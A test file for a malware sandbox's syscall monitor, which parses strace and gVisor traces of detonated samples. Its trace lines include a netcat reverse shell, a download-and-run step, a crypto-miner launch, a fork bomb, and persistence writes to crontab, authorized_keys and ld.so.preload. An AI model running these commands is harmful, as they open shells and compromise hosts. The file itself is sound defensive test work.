import { closeSync, mkdtempSync, openSync, readFileSync, rmSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import {
  normalise, parseStrace, straceArgs, STRACE_FIFO, type FoldedTrace,
} from '../../src/detonate/monitor/index.js';
import { syscallMonitor } from '../../src/detonate/monitor/session-monitor.js';
import { gvisorStraceFlags, parseGvisorStrace } from '../../src/detonate/runtime/gvisor/index.js';
import { RUNC_TRACE_START } from '../../src/detonate/runtime/runc/index.js';

const fixture = (name: string): string =>
  readFileSync(fileURLToPath(new URL(`../../src/detonate/monitor/testdata/${name}`, import.meta.url)), 'utf8');

const runs: [string, () => FoldedTrace][] = [
  ['gVisor --strace (glog text)', () => normalise(parseGvisorStrace(fixture('gvisor-boot.log')).events)],
  ['gVisor --strace (JSON log)', () => normalise(parseGvisorStrace(fixture('gvisor-boot.json.log')).events)],
  ['strace -f around runc', () => normalise(parseStrace(fixture('runc-strace.txt')).events, { start: RUNC_TRACE_START })],
];

describe.each(runs)('%s: event times', (_name, run) => {
  it('times every file operation and connect on the clock of the process tree, never before its process started', () => {
    const b = run();
    const started = new Map(b.processes.map((p) => [p.pid, p.startMs]));
    expect(b.files.length).toBeGreaterThan(0);
    for (const f of [...b.files, ...b.connections]) {
      expect(f.atMs, JSON.stringify(f)).toEqual(expect.any(Number));
      const start = started.get(f.pid);
      if (start !== undefined) expect(f.atMs!, JSON.stringify(f)).toBeGreaterThanOrEqual(start);
    }
  });
});

describe('strace ordering across processes', () => {
  it("keeps a child's calls printed before its parent's clone returned: the ENOEXEC'd download still runs as /tmp/x", () => {
    const b = normalise(parseStrace(fixture('runc-strace-early-child.txt')).events, { start: RUNC_TRACE_START });
    const script = b.processes.filter((p) => p.argv.join(' ') === 'ash /tmp/x');
    expect(script.length).toBeGreaterThan(0);
    expect(script.every((p) => p.exe === '/tmp/x')).toBe(true);
    expect(b.files).toContainEqual(expect.objectContaining({ op: 'chmod', path: '/tmp/x' }));
  });
});

/** The story detonate.sh.txt tells, whatever runtime ran it. */
describe.each(runs)('%s', (_name, run) => {
  const b = run();
  const argvs = b.processes.map((p) => p.argv.join(' '));

  it('starts at the entrypoint and builds the process tree with argv', () => {
    const root = b.processes[0]!;
    expect(root).toMatchObject({ exe: '/detonate.sh', argv: ['/detonate.sh'], ppid: 0, startMs: 0 });
    expect(argvs).toContain('sh -c echo "hi from sh -c"');
    expect(argvs).toContain('sleep 0.3');
    expect(argvs).toContain('nc -w 1 203.0.113.7 4444');
    expect(argvs.some((a) => a.startsWith('runc'))).toBe(false);
    const sleep = b.processes.find((p) => p.argv[0] === 'sleep' && p.argv[1] === '0.3')!;
    const subshell = b.processes.find((p) => p.pid === sleep.ppid)!;
    expect(subshell.ppid).toBe(root.pid);
    expect(b.processes.every((p) => p.startMs >= 0 && p.startMs < 5000)).toBe(true);
  });

  it('shows the drop chain: /tmp/x created, made executable, executed', () => {
    const create = b.files.find((f) => f.op === 'create' && f.path === '/tmp/x');
    const chmod = b.files.find((f) => f.op === 'chmod' && f.path === '/tmp/x');
    expect(create).toBeDefined();
    expect(chmod?.mode).toBe(0o755);
    const exec = b.processes.find((p) => p.exe === '/tmp/x');
    expect(exec?.argv).toEqual(['/tmp/x']);
    expect(exec!.startMs).toBeGreaterThanOrEqual(b.processes.find((p) => p.pid === chmod!.pid)!.startMs);
  });

  it('records persistence writes, history clearing, deletions and renames', () => {
    const ops = b.files.map((f) => `${f.op} ${f.path}${f.to ? ` -> ${f.to}` : ''}`);
    expect(ops).toEqual(expect.arrayContaining([
      'create /etc/crontab', 'create /root/.ash_history', 'create /tmp/junk', 'delete /tmp/junk', 'rename /tmp/x -> /tmp/y',
      `create /tmp/evil\nname"q'`,
    ]));
    expect(ops.filter((o) => o === 'create /tmp/x')).toHaveLength(1);
    expect(ops.some((o) => o.includes('/sys/fs/cgroup') || o.includes('exec.fifo') || o.includes('/dev/null'))).toBe(false);
  });

  it('records the connect attempt to 203.0.113.7:4444 even though it failed', () => {
    expect(b.connections).toEqual([expect.objectContaining({ proto: 'tcp', dst: '203.0.113.7', port: 4444, ok: false })]);
    const nc = b.processes.find((p) => p.argv[0] === 'nc')!;
    expect(b.connections[0]!.pid).toBe(nc.pid);
  });

  it('records the kill of another process, and nothing runc sent', () => {
    expect(b.kills).toHaveLength(1);
    expect(b.kills[0]).toMatchObject({ pid: b.processes[0]!.pid, signal: 'SIGKILL' });
    expect(b.processes.some((p) => p.pid === b.kills[0]!.target)).toBe(true);
  });

  it('names real programs: applets busybox re-ran through /proc/self/exe, forks that never exec\'d', () => {
    for (const p of b.processes) expect(p.exe, JSON.stringify(p)).toMatch(/^\/(?!proc\/)[^\0]*$/);
    const root = b.processes[0]!;
    // `sh -c …`, `sleep`, `nc` are busybox applets the script's shell ran through /proc/self/exe: its program
    for (const argv0 of ['sh', 'sleep', 'nc']) expect(b.processes.find((p) => p.argv[0] === argv0)?.exe, argv0).toBe(root.exe);
    // the $(…) subshell forks again for the pipeline: a fork of a fork, still the script's program
    const forkOfFork = b.processes.find((p) => p.argv[0] === '/detonate.sh' && b.processes.some((q) => q.pid === p.ppid && q.ppid !== 0));
    expect(forkOfFork?.exe).toBe('/detonate.sh');
    expect(b.processes.find((p) => p.argv[0] === '/tmp/x')?.exe).toBe('/tmp/x');
    expect(b.kills[0]!.targetExe).toBe('/detonate.sh');
  });

  it('keeps truncated argv bounded and flagged', () => {
    const long = b.processes.find((p) => p.argv[2]?.startsWith('true AAAA'));
    expect(long).toBeDefined();
    expect(long!.argv[2]!.length).toBeLessThanOrEqual(4096);
  });
});

describe('the same story from both runtimes', () => {
  it('has the same programs, files and connections', () => {
    const [gv, , rc] = runs.map(([, run]) => run());
    const story = (b: FoldedTrace): unknown => ({
      execs: b.processes.filter((p) => p.exe !== '/detonate.sh' || p.ppid === 0).map((p) => p.argv.join(' ').slice(0, 40)).sort(),
      files: b.files.filter((f) => f.op !== 'write').map((f) => `${f.op} ${f.path} ${f.to ?? ''} ${f.mode ?? ''}`).sort(),
      connections: b.connections.map((c) => `${c.proto} ${c.dst}:${c.port}`),
      kills: b.kills.map((k) => k.signal),
    });
    expect(story(rc!)).toEqual(story(gv!));
  });
});

describe('parseStrace on hostile input', () => {
  it('joins unfinished/resumed halves across interleaved pids', () => {
    const { events } = parseStrace([
      '100 10:00:00.000001 execve("/bin/sh", ["sh"], 0x1 /* 1 var */) = 0',
      '100 10:00:00.000002 clone(child_stack=NULL, flags=SIGCHLD <unfinished ...>',
      '101 10:00:00.000003 connect(3<UDP:[1]>, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("192.0.2.53")}, 16 <unfinished ...>',
      '100 10:00:00.000004 <... clone resumed>, child_tidptr=0x0) = 7 /* 101 in strace\'s PID NS */',
      '101 10:00:00.000005 <... connect resumed>) = 0',
      '101 10:00:00.000006 +++ killed by SIGKILL +++',
    ].join('\n'));
    expect(events).toEqual([
      expect.objectContaining({ kind: 'exec', pid: 100, exe: '/bin/sh' }),
      expect.objectContaining({ kind: 'fork', pid: 100, child: 101, thread: false }),
      expect.objectContaining({ kind: 'connect', pid: 101, proto: 'udp', address: '192.0.2.53', port: 53, ok: true }),
      expect.objectContaining({ kind: 'exit', pid: 101, code: null, signal: 'SIGKILL' }),
    ]);
  });

  it('decodes escapes and keeps truncation flags', () => {
    const { events } = parseStrace(
      '5 10:00:00.1 execve("/tmp/a\\nb\\"c\\\\\\x41\\101", ["x", "y, ]\\"z"..., ...], 0x0) = 0\n' +
      '5 10:00:00.2 openat(AT_FDCWD</work>, "rel/f", O_WRONLY|O_CREAT, 0644) = 3</work/rel/f>\n' +
      '5 10:00:00.3 chmod("/tmp/a", 0100755) = -1 EPERM (Operation not permitted)',
    );
    expect(events[0]).toMatchObject({ kind: 'exec', exe: '/tmp/a\nb"c\\AA', argv: ['x', 'y, ]"z'], argvTruncated: true });
    expect(events[1]).toMatchObject({ kind: 'open', path: '/work/rel/f', mode: 0o644 });
    expect(events[2]).toMatchObject({ kind: 'chmod', ok: false, errno: 'EPERM' });
  });

  it('keeps failed write attempts with their errno name, deduplicated and bounded, and drops the uninteresting ones', () => {
    const lines = [
      '7 10:00:00.0 execve("/bin/sh", ["sh"], 0x0) = 0',
      '7 10:00:00.1 openat(AT_FDCWD</>, "/etc/crontab", O_WRONLY|O_CREAT|O_TRUNC, 0644) = -1 EROFS (Read-only file system)',
      '7 10:00:00.2 openat(AT_FDCWD</>, "/etc/crontab", O_WRONLY|O_CREAT|O_TRUNC, 0644) = -1 EROFS (Read-only file system)',
      '7 10:00:00.3 write(3</tmp/fill>, "\\0\\0"..., 1048576) = -1 ENOSPC (No space left on device)',
      '7 10:00:00.4 unlink("/var/log/auth.log") = -1 EACCES (Permission denied)',
      '7 10:00:00.5 unlink("/tmp/missing") = -1 ENOENT (No such file or directory)',
      '7 10:00:00.6 openat(AT_FDCWD</>, "/dev/tty", O_WRONLY) = -1 ENXIO (No such device or address)',
      '7 10:00:00.7 chmod("/bin/busybox", 04755) = -1 EPERM (Operation not permitted)',
      '7 10:00:00.8 kill(9, SIGKILL) = 0',
      ...Array.from({ length: 200 }, (_, i) => `7 10:00:01.${String(i).padStart(3, '0')} openat(AT_FDCWD</>, "/usr/bin/f${i}", O_WRONLY|O_CREAT, 0755) = -1 EROFS (Read-only file system)`),
    ];
    const b = normalise(parseStrace(lines.join('\n')).events, { start: 'all', maxFailedFiles: 10 });
    const failed = b.files.filter((f) => f.error);
    expect(failed.slice(0, 4).map(({ atMs: _atMs, ...f }) => f)).toEqual([
      { op: 'create', path: '/etc/crontab', pid: 7, error: 'EROFS' },
      { op: 'write', path: '/tmp/fill', pid: 7, error: 'ENOSPC' },
      { op: 'delete', path: '/var/log/auth.log', pid: 7, error: 'EACCES' },
      { op: 'chmod', path: '/bin/busybox', pid: 7, mode: 0o4755, error: 'EPERM' },
    ]);
    expect(failed).toHaveLength(10);
    expect(b.files.some((f) => f.path === '/tmp/missing' || f.path === '/dev/tty')).toBe(false);
    expect(b.kills).toEqual([{ pid: 7, target: 9, signal: 'SIGKILL', ok: true }]);
  });

  it('names gVisor errnos as strace does', () => {
    const line = (t: string, rest: string) => `I1130 15:36:43.${t}   30828 strace.go:608] [   4:   4] sh X ${rest}`;
    const { events } = parseGvisorStrace([
      line('100000', 'openat(AT_FDCWD /, 0x5b050f /sys/kernel/x, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0 (0x0) errno=30 (read-only file system) (12.1µs)'),
      line('100001', 'openat(AT_FDCWD /, 0x5b050f /tmp/y, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0 (0x0) errno=28 (no space left on device) (12.1µs)'),
      line('100002', 'openat(AT_FDCWD /, 0x5b050f /tmp/z, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0 (0x0) errno=4095 (made up) (12.1µs)'),
    ].join('\n'));
    expect(events.map((e) => e.errno)).toEqual(['EROFS', 'ENOSPC', 'errno 4095']);
    expect(events.every((e) => e.ok === false)).toBe(true);
  });

  it('a call a signal interrupted (ERESTARTSYS, gVisor errno 512) is not a failed attempt: only its restart counts', () => {
    const b = normalise(parseStrace([
      '7 10:00:00.0 execve("/bin/sh", ["sh", "/sample.sh"], 0x7ffd /* 1 var */) = 0',
      '7 10:00:00.1 openat(AT_FDCWD</>, "/etc/crontab", O_WRONLY|O_CREAT|O_TRUNC, 0666) = ? ERESTARTSYS (To be restarted if SA_RESTART is set)',
      '7 10:00:00.1 --- SIGCHLD {si_signo=SIGCHLD, si_code=CLD_EXITED} ---',
      '7 10:00:00.2 openat(AT_FDCWD</>, "/etc/crontab", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</etc/crontab>',
    ].join('\n')).events, { start: 'all' });
    expect(b.files.map(({ atMs: _atMs, ...f }) => f)).toEqual([{ op: 'create', path: '/etc/crontab', pid: 7 }]);
    const line = (t: string, rest: string) => `I1130 15:36:43.${t}   30828 strace.go:608] [   4:   4] sh X ${rest}`;
    const { events } = parseGvisorStrace([
      line('100000', 'openat(AT_FDCWD /, 0x5b050f /etc/crontab, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0 (0x0) errno=512 (to be restarted if SA_RESTART is set) (12.1µs)'),
      line('100001', 'openat(AT_FDCWD /, 0x5b050f /etc/crontab, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 3 (0x3) (12.1µs)'),
    ].join('\n'));
    expect(events.map((e) => e.errno)).toEqual([undefined]);
  });

  it('survives garbage, binary noise, unclosed quotes and enormous lines', () => {
    const junk = [
      'garbage', '\u0000\u00ff\ufffd', '12 10:00:00.0 execve("/x', '12 10:00:00.0 <... open resumed>) = 3',
      `12 10:00:00.0 openat(AT_FDCWD, "/${'A'.repeat(200_000)}", O_WRONLY|O_CREAT, 0600) = 3`,
      '12 10:00:00.0 kill(-1, SIGTERM) = 0', '--- SIGCHLD {si_signo=SIGCHLD} ---', ')))(((', '12 10:00:00.0 = 5',
    ].join('\n');
    const { events } = parseStrace(junk);
    for (const e of events) if ('path' in e) expect(e.path.length).toBeLessThanOrEqual(4096);
    expect(events.find((e) => e.kind === 'kill')).toMatchObject({ target: -1, signal: 'SIGTERM' });
  });

  it('bounds a fork bomb: counts stay true, lists stay short', () => {
    const lines = ['1 10:00:00.0 execve("/bin/sh", ["sh", "-c", ":(){ :|:& };:"], 0x0) = 0'];
    for (let i = 0; i < 5000; i += 1) lines.push(`1 10:00:00.${String(i).padStart(6, '0')} fork() = ${i + 2}`);
    const parsed = parseStrace(lines.join('\n'), { maxEvents: 3000 });
    expect(parsed.dropped).toBe(2001);
    const b = normalise(parsed.events, { maxProcesses: 100 });
    expect(b.processes).toHaveLength(100);
    expect(b.counts.processes).toBe(3000);
  });

  it('counts the forks a task limit refused (EAGAIN), in gVisor\'s log and in strace\'s, without listing them', () => {
    const gvisor = parseGvisorStrace([
      'I1207 04:51:52.627732    6296 strace.go:611] [   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0) = 19 (0x13) (2.398537ms)',
      'I1207 04:51:53.041322    6296 strace.go:611] [   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0) = 0 (0x0) errno=11 (try again) (15.920507ms)',
      'I1207 04:51:53.041322    6296 strace.go:611] [   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x5ec690, 0x0) = 0 (0x0) errno=12 (cannot allocate memory) (15.920507ms)',
      'I1207 04:51:53.041322    6296 strace.go:611] [   1:   1] sh X openat(AT_FDCWD /, /tmp/x, O_RDONLY, 0o0) = 0 (0x0) errno=11 (try again) (15.920507ms)',
    ].join('\n'));
    expect(gvisor.refusedForks).toBe(1);
    expect(gvisor.events.filter((e) => e.kind === 'fork')).toHaveLength(1);
    const strace = parseStrace([
      '20 10:00:00.1 fork() = -1 EAGAIN (Resource temporarily unavailable)',
      '20 10:00:00.2 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|SIGCHLD, child_tidptr=0x7f) = -1 EAGAIN (Resource temporarily unavailable)',
      '20 10:00:00.3 fork() = 21',
    ].join('\n'));
    expect(strace.refusedForks).toBe(2);
  });

  it('gives a /proc/self/exe exec the caller\'s program, a fork its parent\'s (never a marker), a refused file run as a script its path', () => {
    const b = normalise(parseStrace([
      '20 10:00:00.0 execve("/bin/sh", ["/bin/sh", "/sample.sh"], 0x0) = 0',
      '20 10:00:00.1 fork() = 21',
      '21 10:00:00.2 fork() = 22',
      '22 10:00:00.3 execve("/proc/self/exe", ["nc", "192.0.2.10", "4444", "-e", "/bin/sh"], 0x0) = 0',
      '22 10:00:00.4 execve("/proc/self/exe", ["/bin/sh"], 0x0) = 0',
      '21 10:00:00.5 kill(22, SIGKILL) = 0',
      '20 10:00:00.6 execve("/tmp/x", ["/tmp/x"], 0x0) = 0',
      '20 10:00:00.7 execve("/proc/thread-self/exe", ["x2"], 0x0) = 0',
      // a file with no #! line: the kernel refuses it, busybox ash runs it as a script in the same process
      '23 10:00:01.0 execve("/tmp/y", ["/tmp/y", "a"], 0x0) = -1 ENOEXEC (Exec format error)',
      '23 10:00:01.1 execve("/proc/self/exe", ["ash", "/tmp/y", "a"], 0x0) = 0',
      '24 10:00:01.2 execve("/tmp/z", ["/tmp/z"], 0x0) = -1 ENOEXEC (Exec format error)',
      '24 10:00:01.3 execve("/bin/echo", ["echo", "/tmp/z"], 0x0) = 0',
    ].join('\n')).events, { start: 'all' });
    expect(b.processes.map((p) => [p.pid, p.ppid, p.exe, p.argv[0]])).toEqual([
      [20, 0, '/bin/sh', '/bin/sh'],
      [21, 20, '/bin/sh', '/bin/sh'],
      [22, 21, '/bin/sh', 'nc'],
      [22, 21, '/bin/sh', '/bin/sh'],
      [20, 0, '/tmp/x', '/tmp/x'],
      [20, 0, '/tmp/x', 'x2'],
      [23, 0, '/tmp/y', 'ash'],
      // argv[1] names the refused file, but as an argument of another program: no fallback
      [24, 0, '/bin/echo', 'echo'],
    ]);
    expect(b.kills).toEqual([{ pid: 21, target: 22, signal: 'SIGKILL', targetExe: '/bin/sh', ok: true }]);
  });

  it('lists the programs a sample failed to start with their argv, but not the PATH lookups of a shell that then found one', () => {
    const b = normalise(parseStrace([
      '30 10:00:00.0 execve("/bin/sh", ["/bin/sh", "/dropper.sh"], 0x0) = 0',
      '30 10:00:00.1 fork() = 31',
      // `wget` found on the third PATH directory: two misses that do not count
      '31 10:00:00.2 execve("/usr/local/sbin/wget", ["wget", "http://203.0.113.5/x"], 0x0) = -1 ENOENT (No such file or directory)',
      '31 10:00:00.3 execve("/usr/local/bin/wget", ["wget", "http://203.0.113.5/x"], 0x0) = -1 ENOENT (No such file or directory)',
      '31 10:00:00.4 execve("/usr/bin/wget", ["wget", "http://203.0.113.5/x"], 0x0) = 0',
      '31 10:00:00.5 exit_group(1) = ?',
      '30 10:00:00.6 fork() = 32',
      // the download failed, so the miner it meant to start is not there: the attempt and its argv are kept
      '32 10:00:00.7 execve("/tmp/xmrig", ["/tmp/xmrig", "-o", "stratum+tcp://pool.example.test:3333", "-u", "44AF"], 0x0) = -1 ENOENT (No such file or directory)',
      '32 10:00:00.8 exit_group(127) = ?',
      '30 10:00:00.9 fork() = 33',
      '33 10:00:01.0 execve("/tmp/kdev", ["/tmp/kdev"], 0x0) = -1 EACCES (Permission denied)',
      '33 10:00:01.1 execve("/tmp/kdev", ["/tmp/kdev"], 0x0) = -1 EACCES (Permission denied)',
    ].join('\n')).events, { start: 'all' });
    expect(b.failedExecs).toEqual([
      { pid: 32, exe: '/tmp/xmrig', argv: ['/tmp/xmrig', '-o', 'stratum+tcp://pool.example.test:3333', '-u', '44AF'], error: 'ENOENT', atMs: 700 },
      { pid: 33, exe: '/tmp/kdev', argv: ['/tmp/kdev'], error: 'EACCES', atMs: 1000 },
    ]);
    expect(b.processes.map((p) => p.argv[0])).toEqual(['/bin/sh', 'wget', '/bin/sh', '/bin/sh']);
  });

  it('drops runc before the entrypoint and processes outside its tree', () => {
    const b = normalise(parseStrace([
      '10 10:00:00.0 execve("/usr/sbin/runc", ["runc", "run"], 0x0) = 0',
      '10 10:00:00.1 connect(5<UNIX-STREAM:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("198.51.100.1")}, 16) = 0',
      '11 10:00:00.2 execve("/proc/self/exe", ["runc", "init"], 0x0) = 0',
      '11 10:00:00.3 execve("/bin/bash", ["bash"], 0x0) = -1 ENOENT (No such file or directory)',
      '11 10:00:00.4 execve("/bin/sh", ["sh"], 0x0) = 0',
      '10 10:00:00.5 kill(11, SIGURG) = 0',
      '10 10:00:00.6 openat(AT_FDCWD, "/run/runc/x", O_WRONLY|O_CREAT, 0600) = 3',
      '11 10:00:00.7 openat(AT_FDCWD, "/etc/passwd", O_RDONLY) = 3',
      // a process never seen to start, in the tree or in runc: left out, and counted
      '99 10:00:00.8 openat(AT_FDCWD, "/etc/x", O_WRONLY|O_CREAT, 0600) = 3',
    ].join('\n')).events, { start: RUNC_TRACE_START });
    expect(b.processes).toEqual([{ pid: 11, ppid: 0, exe: '/bin/sh', argv: ['sh'], startMs: 0 }]);
    expect(b.files).toEqual([]);
    expect(b.connections).toEqual([]);
    expect(b.kills).toEqual([]);
    expect(b.lostEvents).toBe(1);
  });
});

describe('parseGvisorStrace on hostile input', () => {
  const head = (t: string): string => `I1130 10:00:00.${t}   4242 strace.go:570] `;
  it('reads raw paths with commas, quotes and newlines by argument count', () => {
    const { events } = parseGvisorStrace([
      `${head('000001')}[   1:   1] sh X openat(AT_FDCWD /, 0x1 /tmp/a, O_RDONLY, 0o0, "b", O_WRONLY|O_CREAT|O_TRUNC, 0o644) = 3 (0x3) (5µs)`,
      `${head('000002')}[   1:   1] sh X unlink(0x1 /tmp/x`,
      'I1130 10:00:00.000003   9999 strace.go:570] [   1:   1] sh X kill(0x1, SIGKILL) = 0 (0x0)) = 0 (0x0) (1µs)',
      `${head('000004')}[   1:   1] E X kill( X chmod(0x2 /tmp/p, S_IFREG|0o4755) = 0 (0x0) (1µs)`,
    ].join('\n'));
    expect(events).toEqual([
      expect.objectContaining({ kind: 'open', path: '/tmp/a, O_RDONLY, 0o0, "b"', flags: ['O_WRONLY', 'O_CREAT', 'O_TRUNC'] }),
      expect.objectContaining({ kind: 'unlink', path: '/tmp/x\nI1130 10:00:00.000003   9999 strace.go:570] [   1:   1] sh X kill(0x1, SIGKILL) = 0 (0x0)' }),
      expect.objectContaining({ kind: 'chmod', path: '/tmp/p', mode: 0o4755 }),
    ]);
  });

  it('keeps an entry whose exit never came, and ignores garbage', () => {
    const { events, unparsed } = parseGvisorStrace([
      'not a log line', '{"msg": 5}', '{broken json',
      '{"msg":"[   3:   3] sh E execve(0x1 /bin/nc, 0x2 [\\"nc\\", \\"192.0.2.1\\", \\"4444\\"], 0x3 [])","time":"2026-01-01T00:00:00.5Z"}',
      `{"msg":"${'['.repeat(100_000)}"}`,
    ].join('\n'));
    expect(events).toEqual([expect.objectContaining({ kind: 'exec', pid: 3, exe: '/bin/nc', argv: ['nc', '192.0.2.1', '4444'] })]);
    expect(events[0]!.ok).toBeUndefined();
    expect(unparsed).toBeGreaterThan(0);
  });
});

describe('tool arguments', () => {
  it('asks runsc for JSON logs and the validated syscall list, strace for fd paths and pid translation', () => {
    // the sandbox's own log (`boot`) gets a fixed name: the monitor reads it from a FIFO of that name
    expect(gvisorStraceFlags('/x/')).toContain('--debug-log=/x/runsc.%COMMAND%.log');
    const syscalls = gvisorStraceFlags('/x').find((f) => f.startsWith('--strace-syscalls='));
    expect(syscalls).toMatch(/execve,.*connect/);
    expect(straceArgs('/o')).toEqual(expect.arrayContaining(['-f', '--seccomp-bpf', '-yy', '--pidns-translation', '-o', '/o']));
    // the noise a sample can make at will is not traced: a file opened for writing is recorded at its open
    expect(syscalls!.split(/[=,]/)).not.toContain('write');
    expect(straceArgs('/o').find((a) => a.startsWith('trace='))!.split(/[=,]/)).not.toContain('write');
  });
});

describe('a sample that floods its own record', () => {
  const at = (i: number): string => `10:00:${String(Math.floor(i / 1e6) % 60).padStart(2, '0')}.${String(i % 1e6).padStart(6, '0')}`;
  const sh = '1 10:00:00.000000 execve("/bin/sh", ["sh", "/sample.sh"], 0x0) = 0';

  it('keeps what comes after 5,000 files and 1,000 programs of noise, and counts what it left out', () => {
    const lines = [sh];
    let t = 1;
    let pid = 100;
    for (let i = 0; i < 5000; i += 1) lines.push(`1 ${at(t++)} openat(AT_FDCWD</>, "/tmp/junk/f${i}", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3`);
    for (let i = 0; i < 1000; i += 1, pid += 1) {
      lines.push(`1 ${at(t++)} fork() = ${pid}`, `${pid} ${at(t++)} execve("/bin/true", ["true", "${i}"], 0x0) = 0`, `${pid} ${at(t++)} +++ exited with 0 +++`);
    }
    lines.push(
      `1 ${at(t++)} openat(AT_FDCWD</>, "/root/.ssh/authorized_keys", O_WRONLY|O_CREAT|O_APPEND, 0666) = 3`,
      `1 ${at(t++)} openat(AT_FDCWD</>, "/etc/ld.so.preload", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EROFS (Read-only file system)`,
      `1 ${at(t++)} openat(AT_FDCWD</>, "/tmp/kdevtmpfsi", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3`,
      `1 ${at(t++)} chmod("/tmp/kdevtmpfsi", 0755) = 0`,
      `1 ${at(t++)} fork() = ${pid}`,
      `${pid} ${at(t++)} execve("/tmp/kdevtmpfsi", ["kdevtmpfsi", "--donate-level=1"], 0x0) = 0`,
    );
    // and more noise after it: what was listed stays
    for (let i = 5000; i < 6000; i += 1) lines.push(`1 ${at(t++)} openat(AT_FDCWD</>, "/tmp/junk/f${i}", O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3`);
    const b = normalise(parseStrace(lines.join('\n')).events, { start: 'all' });
    const ops = b.files.map((f) => `${f.op} ${f.path}${f.error ? ` ${f.error}` : ''}`);
    expect(ops).toEqual(expect.arrayContaining(['create /root/.ssh/authorized_keys', 'create /etc/ld.so.preload EROFS', 'create /tmp/kdevtmpfsi', 'chmod /tmp/kdevtmpfsi']));
    expect(b.processes.find((p) => p.exe === '/tmp/kdevtmpfsi')?.argv).toEqual(['kdevtmpfsi', '--donate-level=1']);
    // the first of the noise is there too, and the latest of the repeated program
    expect(ops).toContain('create /tmp/junk/f0');
    expect(b.processes.some((p) => p.argv.join(' ') === 'true 0')).toBe(true);
    expect(b.processes.some((p) => p.argv.join(' ') === 'true 999')).toBe(true);
    // bounded, and the totals say what is missing
    expect(b.files.length).toBeLessThanOrEqual(512 + 64);
    expect(b.processes).toHaveLength(256);
    expect(b.counts).toMatchObject({ processes: 1002, files: 6004 });
    expect(b.omitted).toEqual({ processes: 1002 - 256, files: 6004 - b.files.length, connections: 0, kills: 0 });
    expect(b.lostEvents).toBe(0);
  });

  it('keeps a write among a flood of writes in the same directory, and a dropped program among 300 others', () => {
    const lines = [sh];
    let t = 1;
    for (let i = 0; i < 2000; i += 1) lines.push(`1 ${at(t++)} openat(AT_FDCWD</>, "/etc/junk${i}", O_WRONLY|O_CREAT, 0644) = 3`);
    lines.push(`1 ${at(t++)} openat(AT_FDCWD</>, "/etc/ld.so.preload", O_WRONLY|O_CREAT|O_TRUNC, 0644) = 3`);
    // 300 different programs fill the process list with one record each
    for (let i = 0; i < 300; i += 1) lines.push(`1 ${at(t++)} fork() = ${1000 + i}`, `${1000 + i} ${at(t++)} execve("/usr/bin/p${i}", ["p${i}"], 0x0) = 0`);
    lines.push(`1 ${at(t++)} openat(AT_FDCWD</>, "/dev/shm/x", O_WRONLY|O_CREAT, 0755) = 3`, `1 ${at(t++)} execve("/dev/shm/x", ["x"], 0x0) = 0`);
    const b = normalise(parseStrace(lines.join('\n')).events, { start: 'all' });
    expect(b.files.some((f) => f.path === '/etc/ld.so.preload')).toBe(true);
    expect(b.files.some((f) => f.path === '/dev/shm/x' && f.op === 'create')).toBe(true);
    expect(b.processes.find((p) => p.exe === '/dev/shm/x')).toMatchObject({ pid: 1, argv: ['x'] });
    expect(b.processes.some((p) => p.exe === '/usr/bin/p0')).toBe(true);
  });

  it('folds a long trace in bounded memory: a child seen before its fork waits for it, a pid never forked is handled later', () => {
    const b = normalise(parseStrace([
      sh,
      // strace printed the child's exec before its parent's fork returned
      '7 10:00:00.000002 execve("/bin/cat", ["cat"], 0x0) = 0',
      '1 10:00:00.000003 fork() = 7',
      // a pid whose fork the trace never shows
      '9 10:00:00.000004 execve("/bin/ls", ["ls"], 0x0) = 0',
    ].join('\n')).events, { start: 'all' });
    expect(b.processes.map((p) => [p.pid, p.ppid, p.argv[0]])).toEqual([[1, 0, 'sh'], [7, 1, 'cat'], [9, 0, 'ls']]);
  });
});

describe('the syscall monitor', () => {
  it('says so when the tracer does not close the trace after the run, and reads what it got', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'detonate-monitor-'));
    const monitor = syscallMonitor({ strace: '/usr/bin/strace', drainTimeoutMs: 300 });
    const ctx = { id: 'late', traceDir: dir, bundleDir: dir, startedAt: 0, runtime: 'runc' as const };
    let writer: number | undefined;
    try {
      await monitor.prepare!(ctx);
      // a tracer that lingers: its end of the FIFO stays open
      writer = openSync(join(dir, STRACE_FIFO), 'w');
      writeSync(writer, `${fixture('runc-strace.txt').replaceAll('["runc", "init"]', '["/usr/sbin/runc", "init"]')}\n`);
      const found = (await monitor.collect!(ctx))!;
      expect(found.processes!.some((p) => p.exe === '/tmp/x')).toBe(true);
      expect(found.trace).toMatchObject({ complete: false, notes: [expect.stringMatching(/had not closed the trace/)] });
    } finally {
      if (writer !== undefined) closeSync(writer);
      await monitor.dispose!(ctx);
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
